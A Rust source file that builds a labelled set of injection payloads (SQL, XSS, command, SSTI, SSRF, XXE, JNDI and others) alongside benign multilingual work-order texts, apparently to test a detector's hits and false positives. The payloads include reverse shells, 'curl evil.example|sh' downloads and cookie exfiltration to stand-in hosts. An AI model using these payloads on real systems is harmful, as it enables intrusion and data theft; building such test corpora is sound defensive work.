//! Attack payloads by class, generated from templates of our own, and ordinary business texts.

mod wraps;

pub use wraps::{WRAPS, wrap};

/// Replaces `{a}` style slots by every value; templates without slots stay as they are.
fn fill(templates: &[&str], slots: &[(&str, &[&str])]) -> Vec<String> {
    let mut out: Vec<String> = templates.iter().map(|text| (*text).to_owned()).collect();
    for (slot, values) in slots {
        out = out
            .iter()
            .flat_map(|text| {
                if text.contains(slot) {
                    values
                        .iter()
                        .map(|value| text.replace(slot, value))
                        .collect()
                } else {
                    vec![text.clone()]
                }
            })
            .collect();
    }
    out
}

/// Every payload with its class.
pub fn payloads() -> Vec<(&'static str, String)> {
    let mut all = Vec::new();
    for (class, texts) in [
        ("sqli", sqli()),
        ("xss", xss()),
        ("rce", rce()),
        ("traversal", traversal()),
        ("nosqli", nosqli()),
        ("ssti", ssti()),
        ("ssrf", ssrf()),
        ("xxe", xxe()),
        ("ldapi", ldapi()),
        ("xpathi", xpathi()),
        ("jndi", jndi()),
        ("prototype_pollution", prototype()),
        ("secret", secret()),
        ("protocol", protocol()),
    ] {
        all.extend(texts.into_iter().map(|text| (class, text)));
    }
    all
}

fn sqli() -> Vec<String> {
    fill(
        &[
            "@v@ OR @n@=@n@@c@",
            "@v@' OR '@s@'='@s@",
            "@v@\" OR \"@s@\"=\"@s@",
            "@v@' OR @n@=@n@@c@",
            "@v@') OR ('@s@'='@s@",
            "@v@'@c@",
            "@v@ UNION SELECT @cols@ FROM @tab@@c@",
            "@v@' UNION ALL SELECT @cols@@c@",
            "@v@'/**/UNION/**/SELECT/**/@cols@/**/FROM/**/@tab@@c@",
            "@v@'; DROP TABLE @tab@@c@",
            "@v@; DELETE FROM @tab@@c@",
            "@v@'; UPDATE @tab@ SET admin=1@c@",
            "@v@'; INSERT INTO @tab@ VALUES (1,'x')@c@",
            "@v@' AND SLEEP(@n@)@c@",
            "@v@ AND BENCHMARK(5000000,MD5('a'))",
            "@v@'; WAITFOR DELAY '0:0:@n@'@c@",
            "@v@' AND pg_sleep(@n@)@c@",
            "@v@' || pg_sleep(@n@)@c@",
            "@v@ AND (SELECT COUNT(*) FROM @tab@) > @n@",
            "@v@' AND (SELECT SUBSTRING(password,1,1) FROM @tab@ LIMIT 1)='a",
            "@v@ AND ASCII(SUBSTRING((SELECT database()),1,1)) > @n@",
            "@v@' AND EXTRACTVALUE(1,CONCAT(0x7e,VERSION()))@c@",
            "@v@ ORDER BY @n@@c@",
            "@v@' GROUP BY @tab@.id HAVING 1=1@c@",
            "@v@' AND 1=CONVERT(int,@@version)@c@",
            "@v@'; EXEC xp_cmdshell('dir')@c@",
            "@v@' UNION SELECT table_name FROM information_schema.tables@c@",
            "@v@' AND LENGTH(password)>@n@@c@",
            "@v@' LIKE '%",
            "@v@' OR name LIKE '%@s@%",
            "@v@'||(SELECT @@version)||'",
            "@v@' INTO OUTFILE '/var/www/x.php'@c@",
            "@v@ AND LOAD_FILE('/etc/passwd')",
        ],
        &[
            ("@v@", &["1", "admin", "-1", "x%"]),
            ("@n@", &["1", "7"]),
            ("@s@", &["a", "x1"]),
            ("@c@", &["", "-- ", "#", "/*", ";--"]),
            ("@cols@", &["1,2,3", "NULL,NULL", "username,password"]),
            ("@tab@", &["users", "accounts"]),
        ],
    )
    .into_iter()
    .filter(|text| {
        !matches!(text.as_str(), "1'" | "admin'" | "-1'")
            && !text.contains("ORDER BY 1")
            && !text.contains("ORDER BY 7")
            || text.ends_with(['#', ' '])
    })
    .collect()
}

fn xss() -> Vec<String> {
    fill(
        &[
            "<script>@js@</script>",
            "@b@<script>@js@</script>",
            "<img src=x onerror=@js@>",
            "<svg onload=@js@>",
            "<svg/onload=@js@>",
            "<body onload=@js@>",
            "@b@<img src=x onerror=@js@>",
            "<a href=\"javascript:@js@\">x</a>",
            "javascript:@js@",
            "<iframe src=\"javascript:@js@\"></iframe>",
            "\" onmouseover=\"@js@",
            "' onfocus='@js@' autofocus='",
            "<details open ontoggle=@js@>",
            "<video><source onerror=\"@js@\"></video>",
            "<input autofocus onfocus=@js@>",
            "<math><mi xlink:href=\"javascript:@js@\">",
            "<object data=\"javascript:@js@\">",
            "<ScRiPt>@js@</sCrIpT>",
            "<script src=//evil.example/x.js></script>",
            "<div style=\"width:expression(@js@)\">",
            "<a onclick=@js@>click</a>",
            "<marquee onstart=@js@>",
            "';@js@;//",
            "\"-@js@-\"",
            "</title><script>@js@</script>",
            "<img/src='x'/onerror='@js@'>",
            "<embed src=\"data:text/html;base64,PHNjcmlwdD4=\">",
            "<form><button formaction=\"javascript:@js@\">go",
            "<meta http-equiv=refresh content=\"0;url=javascript:@js@\">",
        ],
        &[
            ("@b@", &["\">", "'>"]),
            (
                "@js@",
                &[
                    "alert(1)",
                    "alert(document.cookie)",
                    "confirm`1`",
                    "prompt('x')",
                    "eval(atob('YQ=='))",
                    "fetch('//evil.example?c='+document.cookie)",
                    "window['alert'](1)",
                ],
            ),
        ],
    )
}

fn rce() -> Vec<String> {
    let mut out = fill(
        &[
            "@v@; @cmd@",
            "@v@ | @cmd@",
            "@v@ && @cmd@",
            "@v@ || @cmd@",
            "$(@cmd@)",
            "`@cmd@`",
            "@v@\n@cmd@",
            "@v@;@cmd@ #",
        ],
        &[
            ("@v@", &["127.0.0.1", "file.txt"]),
            (
                "@cmd@",
                &[
                    "cat /etc/passwd",
                    "id",
                    "whoami",
                    "ls -la",
                    "uname -a",
                    "wget http://evil.example/x.sh",
                    "curl http://evil.example|sh",
                    "nc -e /bin/sh 10.0.0.1 4444",
                    "sleep 5",
                    "ping -c 3 127.0.0.1",
                    "c'a't /etc/passwd",
                    "cat${IFS}/etc/passwd",
                ],
            ),
        ],
    );
    out.extend(fill(
        &[
            "<?php system($_GET['c']); ?>",
            "system('id')",
            "phpinfo()",
            "eval($_POST['x'])",
            "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
            "() { :;}; /bin/bash -c 'id'",
            "Runtime.getRuntime().exec(\"id\")",
            "new ProcessBuilder(\"sh\").start()",
            "__import__('os').system('id')",
            "require('child_process').exec('id')",
            "O:8:\"stdClass\":1:{s:1:\"a\";i:1;}",
            "powershell -enc SQBFAFgA",
            "cmd.exe /c dir",
            "& dir c:\\",
            "| net user admin x /add",
            "=cmd|' /C calc'!A0",
            "process.mainModule.require('fs').readFileSync('/etc/passwd')",
            "''.__class__.__mro__[1].__subclasses__()",
            "<!--#exec cmd=\"ls\" -->",
            "php://filter/convert.base64-encode/resource=index.php",
            "assert($_REQUEST['a'])",
            "shell_exec('ls')",
            "import os; os.system('ls')",
            "IO.popen('id').read",
            "perl -e 'exec \"/bin/sh\"'",
            "python -c 'import socket'",
        ],
        &[],
    ));
    out
}

fn traversal() -> Vec<String> {
    fill(
        &[
            "@u@@f@",
            "/images/@u@@f@",
            "file=@u@@f@",
            "@u@@f@\0.png",
            "/@f@",
            "file:///@f@",
        ],
        &[
            (
                "@u@",
                &[
                    "../../",
                    "../../../../",
                    "..\\..\\..\\",
                    "....//....//",
                    "..;/..;/",
                    "../.././../",
                ],
            ),
            (
                "@f@",
                &[
                    "etc/passwd",
                    "etc/shadow",
                    "proc/self/environ",
                    "windows/win.ini",
                    "var/log/apache2/access.log",
                    "etc/hosts",
                ],
            ),
        ],
    )
    .into_iter()
    .filter(|text| {
        !text.ends_with("/windows/win.ini") || text.contains("..") || text.contains("win.ini")
    })
    .collect()
}

fn nosqli() -> Vec<String> {
    fill(
        &[
            "{\"@op@\": null}",
            "{\"user\": {\"@op@\": \"\"}}",
            "{\"password\":{\"@op@\":\".*\"}}",
            "user[@op@]=x",
            "{'@op@': 1}",
            "[{\"@op@\": [1,2]}]",
            "{\"a\":{\"b\":{\"@op@\":5}}}",
            "login[@op@]",
        ],
        &[(
            "@op@",
            &[
                "$ne", "$gt", "$gte", "$lt", "$regex", "$where", "$in", "$nin", "$exists", "$or",
                "$expr",
            ],
        )],
    )
    .into_iter()
    .chain(
        [
            "' || this.password.match(/.*/) || 'a'=='b",
            "'; return true; var a='",
            "this.password == 'x'",
            "' || '1'=='1",
            "';sleep(5000);'",
            "db.users.drop()",
            "'; while(true){}'",
            "1; return this.a == 1",
            "function(){ return true; }; return 1;",
            "db.getCollectionNames()",
            "'; db.users.find(); '",
            "\" && this.passwordzz.match(/.*/)//",
            "' && this.token[0]=='a",
        ]
        .map(str::to_owned),
    )
    .collect()
}

fn ssti() -> Vec<String> {
    let mut out = fill(
        &[
            "@o@7*7@e@",
            "@o@7*'7'@e@",
            "Hello @o@9*9@e@",
            "@o@ 49-1 @e@",
        ],
        &[],
    )
    .into_iter()
    .flat_map(|text| {
        [
            ("{{", "}}"),
            ("${", "}"),
            ("#{", "}"),
            ("<%=", "%>"),
            ("*{", "}"),
            ("@(", ")"),
            ("[[${", "}]]"),
            ("${{", "}}"),
            ("{%", "%}"),
        ]
        .map(|(open, close)| text.replace("@o@", open).replace("@e@", close))
    })
    .collect::<Vec<_>>();
    out.extend(
        [
            "{{config}}",
            "{{config.items()}}",
            "{{self.__init__.__globals__}}",
            "{{''.__class__.__mro__[2].__subclasses__()}}",
            "{{request.application.__globals__}}",
            "${T(java.lang.Runtime).getRuntime().exec('id')}",
            "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
            "#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))",
            "{php}echo `id`;{/php}",
            "{{_self.env.registerUndefinedFilterCallback('exec')}}",
            "<%= system('id') %>",
            "<%= File.open('/etc/passwd').read %>",
            "#{global.process.mainModule.require('child_process').execSync('id')}",
            "{{constructor.constructor('return process')()}}",
            "{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}",
            "${class.getClassLoader()}",
            "%{(#_='multipart/form-data')}",
            "{{lipsum.__globals__.os.popen('id').read()}}",
            "{{cycler.__init__.__globals__.os}}",
            "@{System.Diagnostics.Process}",
            "{$smarty.version}",
            "{{['id']|filter('system')}}",
            "${self.module.cache.util.os.system('id')}",
            "{{range.constructor('return global')()}}",
        ]
        .map(str::to_owned),
    );
    out
}

fn ssrf() -> Vec<String> {
    fill(
        &[
            "http://@h@/",
            "https://@h@/admin",
            "http://@h@:8080/x?y=1",
            "http://user@@h@/",
            "//@h@/latest",
        ],
        &[(
            "@h@",
            &[
                "127.0.0.1",
                "localhost",
                "10.0.0.5",
                "192.168.1.1",
                "172.16.3.4",
                "169.254.169.254",
                "[::1]",
                "[::ffff:127.0.0.1]",
                "2130706433",
                "0x7f000001",
                "0177.0.0.1",
                "127.1",
                "0.0.0.0",
                "metadata.google.internal",
                "100.100.100.200",
                "[fd00:ec2::254]",
                "127.0.0.1.nip.io",
                "①②⑦.⓪.⓪.①",
                "[fe80::1]",
                "localtest.me",
            ],
        )],
    )
    .into_iter()
    .chain(
        [
            "gopher://127.0.0.1:6379/_INFO",
            "dict://localhost:11211/stat",
            "file:///etc/passwd",
            "ldap://evil.example/a",
            "jar:http://evil.example!/",
            "netdoc:///etc/passwd",
            "tftp://evil.example/x",
        ]
        .map(str::to_owned),
    )
    .collect()
}

fn xxe() -> Vec<String> {
    fill(
        &[
            "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"@u@\">]><r>&x;</r>",
            "<!DOCTYPE r SYSTEM \"@u@\"><r/>",
            "<!DOCTYPE r [<!ENTITY % p SYSTEM \"@u@\"> %p;]>",
            "<r xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include href=\"@u@\"/></r>",
            "<!ENTITY x PUBLIC \"a\" \"@u@\">",
            "<!DOCTYPE lolz [<!ENTITY lol \"lol\"><!ENTITY lol2 \"&lol;&lol;\">]><a>@u@</a>",
            "<?xml-stylesheet type=\"text/xsl\" href=\"@u@\"?>",
        ],
        &[(
            "@u@",
            &[
                "file:///etc/passwd",
                "http://evil.example/x.dtd",
                "php://filter/read=/etc/passwd",
                "expect://id",
                "ftp://evil.example/",
            ],
        )],
    )
}

fn ldapi() -> Vec<String> {
    fill(
        &[
            "*)(@a@=*",
            "@v@)(@a@=*))(|(@a@=*",
            "@v@)(&)",
            "*)(|(@a@=*)",
            "(&(@a@=*)(b=1))",
            "(|(@a@=*))",
            "@v@*)((|@a@=*)",
            "*))(|(@a@=a",
            "@v@)(!(&(1=0",
            "@a@=*",
        ],
        &[
            ("@v@", &["admin", "x"]),
            ("@a@", &["uid", "cn", "objectClass", "userPassword", "mail"]),
        ],
    )
}

fn xpathi() -> Vec<String> {
    fill(
        &[
            "' or '1'='1",
            "' or count(/*)=1 or 'a'='b",
            "' or string-length(name(/*[1]))=@n@ or '",
            "'] | //user/* | //x['",
            "//user[@n@]/password",
            "x' or name()='username' or 'x'='y",
            "' or substring(//user[@n@]/name,1,1)='a",
            "' and count(/child::node())=@n@ and '1'='1",
            "ancestor::node()",
            "' or contains(name,'adm') or '",
            "1 or position()=@n@",
            "'] | //* | //*['",
            "' or //user[@n@] or '",
            "doc('http://evil.example/')",
            "' or starts-with(name,'a') or '",
        ],
        &[("@n@", &["1", "2", "5"])],
    )
}

fn jndi() -> Vec<String> {
    fill(
        &[
            "${@j@:@p@://evil.example/a}",
            "x${@j@:@p@://10.0.0.1:1389/b}y",
            "${${lower:j}ndi:@p@://e.example/a}",
            "${${::-j}${::-n}di:@p@://e.example}",
            "${jn${env:X:-d}i:@p@://e.example/a}",
            "${${upper:j}NDI:@p@://x}",
        ],
        &[
            ("@j@", &["jndi", "JNDI", "JnDi"]),
            ("@p@", &["ldap", "rmi", "dns", "ldaps", "iiop"]),
        ],
    )
    .into_iter()
    .chain(
        [
            "${env:AWS_SECRET_ACCESS_KEY}",
            "${sys:java.version}",
            "${java:os}",
        ]
        .map(str::to_owned),
    )
    .collect()
}

fn prototype() -> Vec<String> {
    fill(
        &[
            "{\"__proto__\":{\"@k@\":true}}",
            "__proto__[@k@]=1",
            "__proto__.@k@=1",
            "constructor.prototype.@k@=1",
            "constructor[prototype][@k@]=1",
            "{\"constructor\":{\"prototype\":{\"@k@\":1}}}",
            "a[__proto__][@k@]=x",
            "[\"__proto__\"]",
        ],
        &[("@k@", &["admin", "isAdmin", "polluted", "toString", "role"])],
    )
}

fn secret() -> Vec<String> {
    let tail = "Q2W3E4R5T6Z7U2I3";
    vec![
        format!("AKIA{tail}"),
        format!("key: AKIA{tail} please use"),
        format!("-----BEGIN RSA {} KEY-----\nMIIB", "PRIVATE"),
        format!("-----BEGIN {} KEY-----\nMIIB", "PRIVATE"),
        format!("-----BEGIN OPENSSH {} KEY-----\nb3Bl", "PRIVATE"),
        format!("ghp_{}", "a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8"),
        format!("sk_live_{}", "a1B2c3D4e5F6g7H8i9J0"),
        format!("xoxb-{}", "123456789012-abcdefABCDEF"),
        format!("glpat-{}", "a1B2c3D4e5F6g7H8i9J0"),
    ]
}

fn protocol() -> Vec<String> {
    fill(
        &["x\r\n@h@", "value\n@h@", "en\r\n\r\n@h@", "a\r\n @h@"],
        &[(
            "@h@",
            &[
                "Set-Cookie: a=b",
                "Location: http://evil.example",
                "Content-Length: 0",
                "HTTP/1.1 200 OK",
                "Content-Type: text/html",
                "X-Injected: 1",
                "GET /admin HTTP/1.1",
            ],
        )],
    )
}

// LONG: lists of words and the loops that combine them, in one place.
/// Ordinary texts as people write them into work orders.
pub fn business() -> Vec<String> {
    let mut out = Vec::new();
    let verbs = [
        "Replace", "Check", "Select", "Update", "Drop off", "Insert", "Order", "Deliver", "Create",
        "Delete", "Join", "Execute", "Inspect", "Clean", "Set",
    ];
    let things = [
        "the pump filter",
        "valve V-12",
        "table 4 in the canteen",
        "seats from the union hall",
        "the alarm system",
        "O-ring 12x2.5",
        "the lift (left shaft)",
        "unit A & unit B",
        "the script for the tour",
        "fan coil #7",
        "the database cabinet",
        "access card reader",
        "O'Neill's office door",
        "the \"blue\" handle",
        "cable 3*1.5mm²",
    ];
    let whens = [
        "before 9 am",
        "and call back",
        "or ask the concierge",
        "where it leaks",
        "; urgent!",
        "- see photo",
        "from 1 to 3 o'clock",
        "(2nd floor, room 204)",
        "= same as last year",
        "because it's broken",
        "/ key at reception",
        "and 1 = spare part",
        "like last time",
        "24/7 access",
        "having 2 technicians on site",
    ];
    for verb in verbs {
        for thing in things {
            for when in whens {
                out.push(format!("{verb} {thing} {when}"));
            }
        }
    }
    let first = [
        "Siobhán O'Brien",
        "D'Angelo Russo",
        "Jean-Luc Müller",
        "Anna-Lena Groß",
        "José María López",
        "François L'Hôte",
        "Zoë van 't Hoff",
        "Łukasz Żak",
        "Null, Robert",
        "Drop, Anna",
        "Olga Select-Meyer",
        "Søren Ångström",
        "Ευγενία Παπαδοπούλου",
        "山田 太郎",
        "Иван Петров",
    ];
    let places = [
        "Rue de l'Église 12, 75011 Paris",
        "Am Bahnhof 3-5; Hinterhaus",
        "Unit 4/5, Union Street & Dock Rd",
        "c/o Müller & Söhne GmbH",
        "Piazza dell'Unità d'Italia 1",
        "Block #7 (Tower B), 2nd floor",
        "St. John's Wood, London NW8",
        "Käthe-Kollwitz-Straße 1-3",
        "1 Or Street, Haifa",
        "P.O. Box 1=1 (ask desk)",
    ];
    for name in first {
        for place in places {
            out.push(format!("{name}, {place}"));
        }
    }
    out.extend(business_sentences());
    out.extend(include_str!("ordinary.txt").lines().map(str::to_owned));
    out
}

// LONG: one list of sentences.
fn business_sentences() -> Vec<String> {
    let fixed = [
        "Bitte Heizung prüfen: Vorlauf 65°C, Rücklauf 40°C; Druck < 1,5 bar.",
        "Le technicien n'a pas pu accéder à l'immeuble -- rappeler demain.",
        "La puerta no cierra; revisar cerradura y/o bisagras.",
        "L'ascensore è bloccato al 3° piano, c'è un signore dentro!",
        "Please select a technician from the union list and order by priority.",
        "We can't drop the table until the update is finished.",
        "Cost: 12.50 + 3 * 4.20 = 25.10 EUR",
        "Temperature > 30 and humidity < 50% since Monday",
        "Call Mr. O'Connor (ext. 12) or 1 of his team",
        "User reports error 500 when he clicks \"Save\"; see screenshot.",
        "Replace 2x M8*40 screws; torque 25 Nm",
        "The alert (red) went on at 10:15, confirm with security",
        "Server room: rack 3, unit 17-19, cable from switch to patch panel",
        "E-mail: facility.team@example.com, Tel. +49 (0)89 123-456",
        "See https://docs.example.com/manuals/pump?id=12&lang=de for the manual",
        "if (temp > 30) { fan = ON; }",
        "for i in range(10): print(i)",
        "SELECT the right pump from the catalogue, where size = DN50",
        "x = (a + b) / 2; // average",
        "PLC: MOVE D100 TO D200; IF X1 AND X2 THEN Y1",
        "ERROR 2026-11-02 10:22:01 com.example.Pump - connection timeout after 3000 ms",
        "at com.example.Controller.start(Controller.java:42)",
        "config: { \"mode\": \"auto\", \"setpoint\": 21.5 }",
        "<b>Important</b>: bring the ladder",
        "Der Mieter sagt: 'Wasser tropft' und 'Strom weg'.",
        "50% off & free delivery; order now!",
        "Path: C:\\Projects\\Site12\\plans.pdf",
        "Folder /plans/2026/site-12/level_3.dwg",
        "../plans/level_3.dwg",
        "Key = value; other = thing",
        "He said \"it works\" -- but it doesn't.",
        "Nr. 1 OR 2? Please confirm!",
        "Union Square, select committee, from 10 to 12",
        "1-2 weeks lead time; ships from stock",
        "Ref #4711/12-A (old: 4711-11)",
        "Q&A: why? -> because; how? -> see doc",
        "Schlüssel: beim Hausmeister (Tür 3, links) abholen; danach zurück!",
        "Pos. 1; 2; 3 -> replace; Pos. 4 -> keep",
        "Drehmoment M6 = 10 Nm | M8 = 25 Nm | M10 = 49 Nm",
        "echo test of the hall, sleep mode of the display is broken",
        "Controller at 192.168.1.20 does not answer to ping",
        "The password reset mail never arrived",
        "Customer wants to exec(ute) plan B",
        "Cat litter in the drain; cat owner informed",
        "Wait for delay of train, then go to site",
        "id 7; name: pump; status: ok",
        "Tom & Jerry's Café | table for 2",
        "Top 10 issues; sort by date; find root cause",
        "Host called; more details to follow; kill the alarm first",
        "Set date; touch panel; man on site at 7",
        "{{name}} please sign the order",
        "Dear ${customer}, your order is ready",
        "a=1&b=2",
        "Größe: 3/4\" x 1/2\" (Zoll)",
        "O'Reilly's 5' x 3' sign",
        "'n Beetje olie; d'r is lekkage",
        "Rock 'n' Roll bar, 'til 3 am",
        "It's 5 o'clock; where's the key?",
        "IF pump=1 AND valve=1 THEN ok",
        "Sensor A or B = 0",
        "We need 3 or 4 = enough people",
        "Bolt 1/2-13 x 2\" -- zinc",
        "Version 1.2.3--beta",
        "Job #12 -- done",
        "(see note; 3)",
        "Level -1; parking -- slot 12",
        "and 5 more",
        "or 1 of them",
        "Insert the card into the reader and select language",
        "Delete from list: old fan; update set of keys",
        "Create table plan for event, drop chairs at hall B",
        "Grant access to site to all",
        "The document.pdf is in location = basement",
        "Window alarm; self test; top floor; parent company",
        "Print the function sheet and return it",
        "Import list of parts; sort; print",
        "base64 is not needed here",
        "Order by 12:00 please",
        "Group by colour, having fun",
        "UmVwbGFjZSB0aGUgcHVtcCBmaWx0ZXIgYmVmb3JlIG5vb24=",
        "3f2504e0-4f89-11d3-9a0c-0305e82c3301",
        "2026-11-23T10:00:00Z",
        "DE89 3704 0044 0532 0130 00",
        "data: see sheet 2",
        "Mieterin hat Schimmel < 1 m² im Bad; Lüften & Heizen erklärt",
        "Vanne d'arrêt n°3 fermée ; fuite d'eau à l'étage",
        "¿Dónde está la llave? ¡Es urgente!",
    ];
    fixed.iter().map(|text| (*text).to_owned()).collect()
}
